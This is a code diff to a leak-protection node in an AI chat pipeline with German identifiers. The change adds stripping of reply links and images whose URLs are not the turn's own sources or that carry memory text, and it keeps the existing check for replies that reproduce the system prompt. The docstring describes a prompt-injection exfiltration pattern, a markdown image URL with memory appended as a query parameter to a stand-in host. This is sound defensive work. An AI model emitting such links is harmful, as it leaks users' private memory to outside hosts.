@@ -22,6 +22,14 @@ result, so they are compared as well. Where the responder's is missing all the s
 in this turn), its templates and the pair's record stand in (`fallback vorlagen` in the log,
 `systemprompts` in the decision entry). Not covered, on purpose: the history and the per-turn
 material (memory, notes, the Verfasser's content) — the reply may and should repeat what they say.
+
+Then the reply's images and links (`pipeline.links`, the web_fetch tool's rule): one whose URL is
+not one of the turn's own sources — a URL the person wrote in the conversation, a search result of
+the sachlage — or carries memory text is neutralised (link and alt text stay, the URL goes), so
+text injected through a card, a file or a page cannot have a rendering client load or offer
+`![x](https://host/?d=<memory>)`. Logged as `links_entschaerft` with counts by kind and reason (never
+a URL), `leckschutz.links` in the decision log; a reply of nothing but such URLs becomes
+ERSATZ_ANTWORT (`links_ersatzantwort`).
 """
 from __future__ import annotations
 
@@ -31,6 +39,7 @@ import string
 from functools import lru_cache
 
 from pipeline.figur import einsetzen
+from pipeline.links import ARTEN, LinkRegel, entschaerfen
 from pipeline.node import Node
 from pipeline.nodes.corrector import umschreiben
 from pipeline.services import Deps
@@ -39,7 +48,7 @@ from pipeline.state import TurnState, UrteilRecord, current_reply
 NAME = "leckschutz"
 NODE = Node(
     name=NAME,
-    reads=("stimulus", "pair", "kontext", "route", "plan", "draft", "pruefung", "urteil"),
+    reads=("stimulus", "pair", "memory", "kontext", "sachlage", "route", "plan", "draft", "pruefung", "urteil"),
     writes=("urteil",),
 )
 QUELLEN = ("responder", "thinker", "thinker_nachfass", "corrector", "fakten")
@@ -173,9 +182,39 @@ async def ersetzen(state: TurnState, deps: Deps, reply: str, funde: list[str], f
     return ERSATZ_ANTWORT, "ersatzantwort", inputs
 
 
-@NODE.runs
-async def run(state: TurnState, deps: Deps) -> dict:
-    reply = current_reply(state)
+def link_regel(state: TurnState) -> LinkRegel:
+    """The turn's own sources and the memory text in its prompt (`pipeline.links`): the URLs the
+    person wrote in this message and in the session's turns, the sachlage's search results; the
+    memory as the reducer shaped it and the person's profiles."""
+    person = [state.stimulus.user_prompt or ""]
+    person += [t.inhalt for t in (state.memory.session_turns if state.memory else []) if t.rolle == "user"]
+    quellen = [h.get("url", "") for o in (state.sachlage.objekte if state.sachlage else [])
+               for h in o.get("recherche") or [] if isinstance(h, dict)]
+    k, p = state.kontext, state.pair
+    erinnerungen = [k.gedaechtnis_verfasser, k.gedaechtnis_thinker, k.gedaechtnis_tribunal] if k else []
+    erinnerungen += [p.mensch_kern, p.mensch_beziehung, p.mensch_themen, p.nova_beziehung] if p else []
+    return LinkRegel(person, quellen, erinnerungen)
+
+
+def links_pruefen(state: TurnState, deps: Deps, reply: str) -> str:
+    """The reply with every image and link whose URL is not one of the turn's own sources, or
+    carries memory text, neutralised (`pipeline.links`); logged by name with counts, never a URL."""
+    neu, zahlen = entschaerfen(reply, link_regel(state))
+    if not zahlen:
+        return reply
+    outcome = "entschaerft" if neu.strip() else "ersatzantwort"
+    arten = {a: zahlen[a] for a in ARTEN if zahlen[a]}
+    gruende = {g: n for g, n in zahlen.items() if g not in ARTEN}
+    log.warning("leckschutz: fallback links_%s: turn %s: %s neutralised (%s); link and alt text stay",
+                outcome, state.stimulus.turn_id, ", ".join(f"{n} {a}" for a, n in arten.items()),
+                ", ".join(f"{g} {n}" for g, n in gruende.items()))
+    deps.trace.decision(NAME, "leckschutz.links", outcome, {**arten, "gruende": gruende, "zeichen_vorher": len(reply),
+                                                            "zeichen_nachher": len(neu)})
+    return neu if neu.strip() else ERSATZ_ANTWORT
+
+
+async def prompt_leck(state: TurnState, deps: Deps, reply: str) -> str:
+    """The reply, or its replacement when it reproduces the prompt."""
     model = await deps.llm.model_name()
     frags, marker, gesehen = muster(deps, model, state.pair)
     if "responder" not in gesehen:
@@ -186,11 +225,20 @@ async def run(state: TurnState, deps: Deps) -> dict:
                         {"funde": funde[:5], "zahl": len(funde), "zeichen": len(reply), "muster": len(frags),
                          "systemprompts": gesehen}, threshold=MIN_ZEICHEN)
     if not funde:
-        return {}
+        return reply
     log.warning("leckschutz: the reply of turn %s reproduces the prompt: %d findings %s", state.stimulus.turn_id,
                 len(funde), deps.settings.said("; ".join(funde[:3])))
     neu, outcome, inputs = await ersetzen(state, deps, reply, funde, frags, marker)
     deps.trace.decision(NAME, "leckschutz.ergebnis", outcome, {**inputs, "zeichen_vorher": len(reply),
                                                                "zeichen_nachher": len(neu)})
+    return neu
+
+
+@NODE.runs
+async def run(state: TurnState, deps: Deps) -> dict:
+    reply = current_reply(state)
+    neu = links_pruefen(state, deps, await prompt_leck(state, deps, reply))
+    if neu == reply:
+        return {}
     u = state.urteil or UrteilRecord()
     return {"urteil": u.model_copy(update={"reply": neu})}
